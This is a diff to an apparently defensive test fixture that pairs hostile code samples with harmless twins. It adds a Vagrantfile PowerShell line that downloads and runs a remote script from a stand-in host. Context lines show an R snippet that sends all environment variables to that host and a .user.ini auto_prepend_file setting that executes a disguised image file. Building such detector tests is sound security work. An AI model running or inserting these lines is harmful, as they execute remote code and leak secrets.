@@ -360,6 +360,11 @@ PAIRS = [
         "s <- Sys.getenv()\nreadLines(url(paste0('https://x.invalid/r?', URLencode(paste(s, collapse='&')))))",
         "s <- Sys.time()\nreadLines(url(paste0('https://x.invalid/r?', URLencode(paste(s, collapse='&')))))",
     ),
+    (
+        "Vagrantfile",
+        "x = <<-EOF\n  powershell \"iex ((New-Object Net.WebClient).DownloadString('https://x.invalid/i.ps1'))\"\nEOF\n",
+        "x = <<-EOF\n  powershell \"iex ((New-Object Net.WebClient).DownloadString('https://chocolatey.org/i.ps1'))\"\nEOF\n",
+    ),
     (".user.ini", "auto_prepend_file = logo.png", "auto_prepend_file ="),
 ]
 
